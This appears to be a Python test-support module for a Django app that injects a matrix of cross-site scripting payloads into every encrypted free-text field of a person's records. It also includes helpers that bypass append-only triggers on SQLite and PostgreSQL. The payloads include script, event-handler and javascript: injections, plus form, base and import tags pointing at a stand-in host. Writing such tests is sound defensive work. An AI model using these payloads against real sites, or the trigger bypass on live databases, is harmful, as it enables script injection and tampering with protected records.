"""Hostile texts, and how they are put into every free text of a person's story."""

import itertools
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

from django.apps import apps
from django.db import connection, models

from accounts.kernel.fields import EncryptedJSONField, EncryptedTextField
from tests.support.roles import as_owner

TAG = "xq"
OPENINGS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "&quot;>",
    "`",
)
BODIES = (
    f"<{TAG} onpointerover=alert(1)>", f"<{TAG}/onclick=alert(1)//", f"<img src=x class={TAG} onerror=alert(1)>", f"<svg class={TAG} onload=alert(1)>",
    f"<script class={TAG}>alert(1)</script>", f"<a class={TAG} href=javascript:alert(1)>a</a>", f"<iframe class={TAG} srcdoc='<b>'>",
    f"<math class={TAG}><mi xlink:href=javascript:alert(1)>", f" onfocus=alert(1) autofocus {TAG}=1 x=", f"<meta class={TAG} http-equiv=refresh content=0>",
    f"<form class={TAG} action=//e.example><input>", f"<base class={TAG} href=//e.example/>", f"{{{{ {TAG}|safe }}}}<{TAG}>", f"<style class={TAG}>@import '//e.example'</style>",
    f"<object class={TAG} data=//e.example>",
)  # fmt: skip
CODE = re.compile(r"[a-z0-9_]+")
"""What stands in a sealed column for one of a few choices, which nobody types."""
PAYLOADS = [opening + body for opening, body in itertools.product(OPENINGS, BODIES)]


def poison(ids: Mapping[str, Sequence[Any]], turn: Iterator[str], *, at_once: int) -> int:
    """Write the payloads, in turn, into every free text of every row that hangs on the person; return how many were stored.

    A text without a limit holds `at_once` of them side by side.
    """
    stored = 0
    for model in apps.get_models():
        texts = [one for one in model._meta.concrete_fields if _is_free(one)]
        records = [one for one in model._meta.concrete_fields if isinstance(one, EncryptedJSONField)]
        rows = (
            model._default_manager.filter(pk__in=ids.get(model.__name__, ())).order_by("pk") if texts or records else ()
        )
        for row in rows:
            for one in texts:
                if (value := getattr(row, one.attname)) and not CODE.fullmatch(value):
                    held = [next(turn) for _ in range(1 if one.max_length else at_once)]
                    setattr(row, one.attname, " ".join(held)[: one.max_length])
                    stored += len(held)
            for one in records:
                setattr(row, one.attname, _poisoned(getattr(row, one.attname), turn))
            _rewrite(row)
    return stored


def _rewrite(row: models.Model) -> None:
    """Write a row again though it is append-only: in SQLite a row that replaces another wakes no trigger on changes.

    To drop the triggers would change the schema, which SQLite then reads again after each savepoint that is taken back.
    """
    if connection.vendor == "postgresql":
        models.Model.save(row)
        return
    with connection.execute_wrapper(_replacing):
        type(row)._base_manager.bulk_create([row])


def _replacing(execute: Any, sql: str, *arguments: Any) -> Any:
    return execute(re.sub(r"^INSERT INTO", "INSERT OR REPLACE INTO", sql), *arguments)


def _poisoned(value: Any, turn: Iterator[str]) -> Any:
    """Return a record with a payload in the place of each sentence; codes, days and ids stay."""
    if isinstance(value, dict):
        return {key: _poisoned(one, turn) for key, one in value.items()}
    if isinstance(value, list):
        return [_poisoned(one, turn) for one in value]
    return next(turn) if isinstance(value, str) and " " in value else value


def drop_guards() -> None:
    """On PostgreSQL, let append-only rows be rewritten: in a transaction that is taken back, or a database thrown away."""
    if connection.vendor == "postgresql":
        as_owner("SELECT set_config('session_replication_role', 'replica', true)")


def _is_free(field: Any) -> bool:
    return isinstance(field, EncryptedTextField) and not field.name.startswith("phone")
